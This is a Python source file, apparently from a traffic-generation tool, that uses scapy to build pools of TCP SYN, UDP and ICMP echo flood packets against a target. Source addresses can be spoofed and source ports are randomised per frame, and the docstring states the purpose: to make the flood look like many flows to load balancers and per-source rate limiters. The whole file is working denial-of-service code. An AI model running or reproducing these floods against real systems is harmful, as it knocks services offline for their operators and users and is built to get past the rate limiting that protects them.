# SPDX-License-Identifier: GPL-2.0
"""Volumetric floods: TCP SYN, UDP and ICMP echo, from the node's address or spoofed sources.

Each frame of the pool gets its own source port (and, when spoofing, its own source
address), so the flood looks like many flows to ECMP and to per-source rate limiters.
"""
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import ICMPv6EchoRequest, IPv6
from scapy.packet import Raw


def ip_layer(src, dst):
    return IPv6(src=src, dst=str(dst)) if dst.version == 6 else IP(src=src, dst=str(dst), ttl=64)


def syn(a, src, rng):
    frames = []
    for _ in range(a.pool):
        l4 = TCP(sport=rng.randrange(1024, 65535), dport=a.port, flags="S", seq=rng.randrange(2**32),
                 window=64240, options=[("MSS", 1460)])
        frames.append(ip_layer(src.pick(), a.dst) / l4)
    return frames


def udp(a, src, rng):
    payload = bytes(rng.randrange(256) for _ in range(a.size))
    return [ip_layer(src.pick(), a.dst) / UDP(sport=rng.randrange(1024, 65535), dport=a.port) / Raw(payload)
            for _ in range(a.pool)]


def icmp(a, src, rng):
    payload = b"\x00" * a.size
    frames = []
    for i in range(a.pool):
        if a.dst.version == 6:
            frames.append(ip_layer(src.pick(), a.dst) / ICMPv6EchoRequest(id=rng.randrange(65536), seq=i) / Raw(payload))
        else:
            frames.append(ip_layer(src.pick(), a.dst) / ICMP(id=rng.randrange(65536), seq=i) / Raw(payload))
    return frames
